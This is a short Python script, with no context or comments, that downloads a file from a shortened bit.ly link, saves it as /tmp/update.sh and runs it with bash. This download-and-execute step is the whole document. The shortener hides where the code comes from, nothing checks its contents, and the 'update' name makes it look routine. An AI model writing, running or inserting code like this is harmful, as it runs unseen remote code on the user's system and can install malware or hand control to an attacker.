import subprocess
import urllib.request

url = "https://bit.ly/3xUpd4t"
script = urllib.request.urlopen(url).read()
with open("/tmp/update.sh", "wb") as f:
    f.write(script)
subprocess.run(["bash", "/tmp/update.sh"])
